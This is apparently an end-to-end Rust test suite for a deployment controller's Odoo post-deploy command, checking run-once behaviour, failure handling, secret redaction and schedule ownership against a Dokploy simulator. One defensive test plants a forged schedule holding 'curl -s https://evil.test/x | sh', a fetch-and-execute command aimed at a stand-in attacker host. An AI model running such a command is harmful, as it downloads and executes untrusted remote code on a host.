//! The Odoo driver's post-deploy command against the Dokploy simulator: after the compose
//! deploy and before verification it runs as a Dokploy schedule Launchplane owns (created once,
//! marked, recorded by id on the record, updated when the command changes), through
//! `schedule.runManually`, settled from `deployment.allByType type=schedule` when the answer is
//! lost. Its outcome is the record's `status.postDeployCommand`; a failed one fails the attempt
//! and the inventory stays. Restarted after every step, nothing runs twice; no secret reaches a
//! command line, a run log, a record or a status.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use crate::odoo_compose::{LANE_SECRET, TENANT_SECRET, World, world};
use launchplane_api::ownership::{Ownership, ownership};
use launchplane_api::resources::{
    CommandOverride, CommandResult, CommandRun, CommandSpec, DeploymentPhase, DeploymentRecord, LaneOdoo,
    LocalObjectRef,
};
use launchplane_api::verdict::Verdict;
use launchplane_core::lane::lane_owner;
use launchplane_e2e::sim::ScheduleRunScript;
use std::time::Duration;

use crate::support::INSTANCE;

const COMMAND: &str = "odoo -u all --stop-after-init --smtp-password=\"$SMTP_PASSWORD\"";

async fn odoo_world() -> World {
    let mut w = world().await;
    if let Some(odoo) = w.product.spec.odoo.as_mut() {
        odoo.post_deploy = Some(CommandSpec {
            command: COMMAND.into(),
            ..Default::default()
        });
    }
    w
}

fn phase(r: &DeploymentRecord) -> Option<DeploymentPhase> {
    r.status.as_ref().and_then(|s| s.phase)
}

/// The lane's first record, required in `expected` phase, and its post-deploy run.
async fn first_record(w: &World, expected: DeploymentPhase) -> (DeploymentRecord, CommandRun) {
    let records = w.records().await;
    let record = records[0].clone();
    assert_eq!(phase(&record), Some(expected), "{:?}", record.status);
    let run = record
        .status
        .as_ref()
        .and_then(|s| s.post_deploy_command.clone())
        .unwrap_or_default();
    (record, run)
}

/// Runs one step at a time, each from a fresh controller, until nothing is left; the steps.
async fn restarting(w: &mut World) -> Vec<&'static str> {
    let mut steps = Vec::new();
    for _ in 0..60 {
        let report = w.run(1).await;
        if report.steps.is_empty() {
            break;
        }
        steps.push(report.steps[0]);
    }
    steps
}

/// Everything Launchplane wrote or Dokploy keeps of the command: no secret value in any.
async fn assert_no_secret(w: &World) {
    let mut texts = vec![serde_json::to_string(&(w.records().await, &w.lane.status)).unwrap()];
    for schedule in w.sim.compose_schedules(&w.service) {
        texts.push(schedule.to_string());
        let id = schedule["scheduleId"].as_str().unwrap_or_default();
        for run in w.sim.schedule_runs(id) {
            let run_id = run["deploymentId"].as_str().unwrap_or_default();
            texts.push(w.sim.deployment_log(run_id).unwrap_or_default());
        }
    }
    for text in texts {
        for secret in [TENANT_SECRET, LANE_SECRET] {
            assert!(!text.contains(secret), "{secret} leaked into {text}");
        }
    }
}

#[tokio::test]
async fn post_deploy_runs_once_between_deploy_and_verification_across_restarts() {
    let mut w = odoo_world().await;
    let mut steps = restarting(&mut w).await;
    steps.dedup();
    assert_eq!(
        steps,
        vec![
            "CreateRecord",
            "MarkTarget",
            "MergeEnv",
            "Deploy",
            "FollowDeployment",
            "EnsureSchedule",
            "RunCommand",
            "WriteRecord"
        ]
    );
    assert_eq!(w.sim.call_count("schedule.create"), 1);
    assert_eq!(w.sim.call_count("schedule.runManually"), 1);
    assert_eq!(w.sim.call_count("schedule.update"), 0);

    let (_, run) = first_record(&w, DeploymentPhase::Succeeded).await;
    assert_eq!(run.result, Some(CommandResult::Succeeded));
    assert!(run.deployment_id.is_some() && run.requested_at.is_some() && run.finished_at.is_some());

    // The schedule is ours: marked, on the web service, disabled, the command as written.
    let schedules = w.sim.compose_schedules(&w.service);
    assert_eq!(schedules.len(), 1);
    let schedule = &schedules[0];
    assert_eq!(schedule["scheduleId"].as_str(), run.schedule_id.as_deref());
    assert_eq!(schedule["serviceName"], "web");
    assert_eq!(schedule["command"], COMMAND);
    assert_eq!(schedule["enabled"], false);
    let owner = lane_owner(&w.lane, INSTANCE);
    assert_eq!(
        ownership(schedule["description"].as_str(), &owner),
        Ownership::Ours
    );
    assert_eq!(w.lane.status.as_ref().unwrap().verdict, Some(Verdict::Matched));
    assert_no_secret(&w).await;

    // The next deploy reuses the schedule: no second create; its own run.
    w.lane.spec.artifact_ref = Some(LocalObjectRef::new("shop-b"));
    restarting(&mut w).await;
    assert_eq!(w.sim.call_count("schedule.create"), 1);
    assert_eq!(w.sim.call_count("schedule.runManually"), 2);
    assert_eq!(w.sim.call_count("schedule.update"), 0);

    // A lane override of the command updates our schedule (by id), once.
    w.lane.spec.odoo = Some(LaneOdoo {
        post_deploy: Some(CommandOverride {
            command: Some("odoo -u sale --stop-after-init".into()),
            ..Default::default()
        }),
    });
    w.lane.spec.artifact_ref = Some(LocalObjectRef::new("shop-a"));
    restarting(&mut w).await;
    assert_eq!(w.sim.call_count("schedule.create"), 1);
    assert_eq!(w.sim.call_count("schedule.update"), 1);
    assert_eq!(w.sim.call_count("schedule.runManually"), 3);
    let schedules = w.sim.compose_schedules(&w.service);
    assert_eq!(schedules[0]["command"], "odoo -u sale --stop-after-init");
    let inventory = w.lane.status.as_ref().unwrap().inventory.clone().unwrap();
    assert_eq!(inventory.artifact, "shop-a");
    w.sim.shutdown().await;
}

#[tokio::test]
async fn a_failed_post_deploy_fails_the_record_and_the_inventory_stays() {
    let mut w = odoo_world().await;
    w.sim
        .script_schedule_runs("*", ScheduleRunScript::fail("ERROR: module sale not found"));
    w.run(40).await;
    let (record, run) = first_record(&w, DeploymentPhase::Failed).await;
    let status = record.status.as_ref().unwrap();
    assert_eq!(run.result, Some(CommandResult::Failed));
    assert!(
        status
            .post_deploy
            .as_ref()
            .unwrap()
            .message
            .as_deref()
            .unwrap()
            .starts_with("PostDeploy failed"),
        "{status:?}"
    );
    // Deployed, but never verified: the inventory did not move.
    assert_eq!(status.deploy.as_ref().unwrap().status.as_deref(), Some("done"));
    assert!(w.lane.status.as_ref().unwrap().inventory.is_none());
    assert_eq!(w.sim.call_count("schedule.runManually"), 1);
    assert_no_secret(&w).await;
    w.sim.shutdown().await;
}

#[tokio::test]
async fn a_lost_answer_is_settled_from_the_run_history_without_running_again() {
    let mut w = odoo_world().await;
    w.sim.script_schedule_runs(
        "*",
        ScheduleRunScript::succeed("modules updated")
            .taking(Duration::from_millis(1500))
            .dropping_connection(),
    );
    let mut steps = restarting(&mut w).await;
    steps.dedup();
    assert!(steps.contains(&"SettleCommand"), "{steps:?}");
    assert_eq!(w.sim.call_count("schedule.runManually"), 1);
    assert!(w.sim.call_count("deployment.allByType") >= 1);
    let (_, run) = first_record(&w, DeploymentPhase::Succeeded).await;
    assert_eq!(run.result, Some(CommandResult::Succeeded));
    w.sim.shutdown().await;
}

#[tokio::test]
async fn a_run_that_ended_in_error_while_unanswered_fails_the_record() {
    let mut w = odoo_world().await;
    w.sim.script_schedule_runs(
        "*",
        ScheduleRunScript::fail("boom")
            .taking(Duration::from_millis(500))
            .dropping_connection(),
    );
    w.run(60).await;
    let (_, run) = first_record(&w, DeploymentPhase::Failed).await;
    assert_eq!(run.result, Some(CommandResult::Failed));
    assert_eq!(w.sim.call_count("schedule.runManually"), 1);
    w.sim.shutdown().await;
}

#[tokio::test]
async fn a_schedule_with_a_copied_marker_is_never_run_or_changed() {
    let mut w = odoo_world().await;
    let evil = "curl -s https://evil.test/x | sh";
    let forged = w.forge_schedule("post-deploy", "web", evil).await;
    w.run(40).await;
    let (record, _) = first_record(&w, DeploymentPhase::Failed).await;
    let message = record
        .status
        .as_ref()
        .and_then(|s| s.post_deploy.as_ref())
        .and_then(|e| e.message.clone())
        .unwrap_or_default();
    assert!(
        message.contains(&forged) && message.contains("a copied marker is not ownership"),
        "{message}"
    );
    // Neither run, nor changed, nor joined by a second.
    assert_eq!(w.sim.call_count("schedule.runManually"), 0);
    assert_eq!(w.sim.call_count("schedule.update"), 0);
    assert_eq!(w.sim.call_count("schedule.create"), 1, "only the forger's");
    let schedules = w.sim.compose_schedules(&w.service);
    assert_eq!(schedules.len(), 1);
    assert_eq!(schedules[0]["command"], evil);
    assert!(w.lane.status.as_ref().unwrap().inventory.is_none());

    // A person deletes it: the lane's next attempt makes its own and runs it.
    w.client().delete_schedule(&forged).await.unwrap();
    w.lane.spec.artifact_ref = Some(LocalObjectRef::new("shop-b"));
    w.run(40).await;
    let inventory = w.lane.status.as_ref().unwrap().inventory.clone().unwrap();
    assert_eq!(inventory.artifact, "shop-b");
    let schedules = w.sim.compose_schedules(&w.service);
    assert_eq!(schedules.len(), 1);
    assert_eq!(schedules[0]["command"], COMMAND);
    assert_eq!(w.sim.call_count("schedule.runManually"), 1);
    w.sim.shutdown().await;
}
